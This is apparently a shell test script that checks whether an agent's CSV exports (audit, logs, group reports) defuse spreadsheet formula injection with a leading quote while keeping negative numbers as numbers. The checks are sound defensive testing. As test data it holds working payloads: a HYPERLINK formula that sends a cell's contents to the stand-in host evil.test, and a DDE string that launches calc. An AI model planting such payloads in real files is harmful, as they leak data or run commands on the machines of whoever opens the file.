#!/bin/sh
# CSV cells: every CSV the agent writes (audit, logs, group reports) defuses a
# cell that a spreadsheet would run as a formula (= + - @ TAB CR at the start)
# with a leading quote, while numbers, negative ones too, stay numbers.
. "$(dirname "$0")/../lib/tap.sh"
. "$(dirname "$0")/../lib/httpd.sh"
plan 14
MK=$NP_TOP/tests/data/make_group_study.py
P=Atypical/MSAp/PSP-v1.0
EVIL='=HYPERLINK("http://evil.test/?"&A1,"click")'
mkdir -p "$NP_HOME/log/np-recv" "$NP_HOME/spool/done" "$NP_HOME/etc"
printf '%s\n' "2026-11-27T10:00:00.000000000  np-recv: info: - listening port=11112" \
	"2026-11-27T10:00:01.000000000  np-recv: info: - peer name $EVIL" \
	"2026-11-27T10:00:01.500000000  np-recv: warning: - @SUM(1)" > "$NP_HOME/log/np-recv/current"
# a log line whose whole message is a formula: s6-log keeps what a service prints
printf '%s\n' "2026-11-27T10:00:02.000000000  =1+1" >> "$NP_HOME/log/np-recv/current"
echo '{"groups": {"include_study_name": true}}' > "$NP_HOME/etc/neuropacs.json"
a=$($MK "$NP_HOME" done --order O-1 --name '=cmd|'"'"' /C calc'"'"'!A0' \
	--result "$P:Atypical=-0.5" --result "$P:PSPvsMSAp=1e-05" --result "$P:FWpSN=-1+2" --result "$P:FWMCP=@SUM(A1)")
b=$($MK "$NP_HOME" done --order O-2 --name '+41 55 555' --result "$P:Atypical=0.25")
c=$($MK "$NP_HOME" done --order=-O3 --name '@home' --result "$P:Atypical=-3")
# the demo cloud's notice is free text from the cloud
jq '.notice = "-synthetic, not for diagnosis"' "$NP_HOME/spool/done/$b/results/results-0.json" > "$T/n.json" &&
	mv "$T/n.json" "$NP_HOME/spool/done/$b/results/results-0.json"
"$BIN/np-group" create "Trial A" --products "$P" >/dev/null
"$BIN/np-group" assign "Trial A" "$a" "$b" "$c" >/dev/null 2>&1
start_httpd --insecure-no-auth

# rows of a CSV as a spreadsheet's reader sees them, one cell per line
cells() { /usr/bin/python3 -c '
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    print("\x1f".join(row))' "$1"; }

sqlite3 "$NP_HOME/db/agent.sqlite" "INSERT INTO audit (ts, actor, role, client, action, detail, outcome)
	VALUES ('2026-11-27T10:00:00.000Z', '$(printf '%s' "$EVIL" | sed "s/'/''/g")', 'user', '127.0.0.1', 'login',
	'@detail', 'success')"
is "$(req GET '/api/audit?format=csv')" 200 "audit CSV"
cells "$T/body" | grep -F login > "$T/audit"
is "$(cut -d "$(printf '\037')" -f3 "$T/audit")" "'$EVIL" "a sign-in name that is a formula comes out with a leading quote"
is "$(cut -d "$(printf '\037')" -f8 "$T/audit")" "'@detail" "... and so does any other text cell"
like "$(cat "$T/body")" "^[0-9]+,2026-11-27T10:00:00.000Z,\"'=HYPERLINK" "... quoted, the id still a plain number"

is "$(req GET '/api/logs/download?format=csv')" 200 "logs CSV"
cells "$T/body" > "$T/logs"
nok "no cell of the logs CSV starts a formula" grep -Eq "(^|$(printf '\037'))[=+@-]" "$T/logs"
grep -qF "'=1+1" "$T/logs" && grep -qF "'@SUM(1)" "$T/logs"; is "$?" 0 "a log line or message that starts with = or @ is defused"
grep -qF -e "peer name $EVIL" "$T/logs"; is "$?" 0 "a formula inside a message is left as text (it does not start the cell)"

is "$(req GET '/api/groups/Trial%20A/report')" 200 "group report CSV"
cells "$T/body" > "$T/rep"
us=$(printf '\037')
is "$(grep -F "$a" "$T/rep" | cut -d "$us" -f2,6-9)" "'=cmd|' /C calc'!A0${us}-0.5${us}1e-5${us}'-1+2${us}'@SUM(A1)" \
	"a study name and result texts are defused, negative numbers stay numbers"
is "$(grep -F "$b" "$T/rep" | cut -d "$us" -f2,6,10)" "'+41 55 555${us}0.25${us}'-synthetic, not for diagnosis" \
	"a study name starting with + and a notice starting with - are defused"
is "$(grep -F "$c" "$T/rep" | cut -d "$us" -f2,3,6)" "'@home${us}'-O3${us}-3.0" "an order id starting with - is defused, -3 is a number"
like "$(grep -F "$a" "$T/body")" ',-0\.5,1e-5,' "... the numbers are written bare, as numbers"
"$BIN/np-report" "Trial A" > "$T/cli.csv"
ok "np-report writes the same defused CSV" cmp "$T/cli.csv" "$T/body"
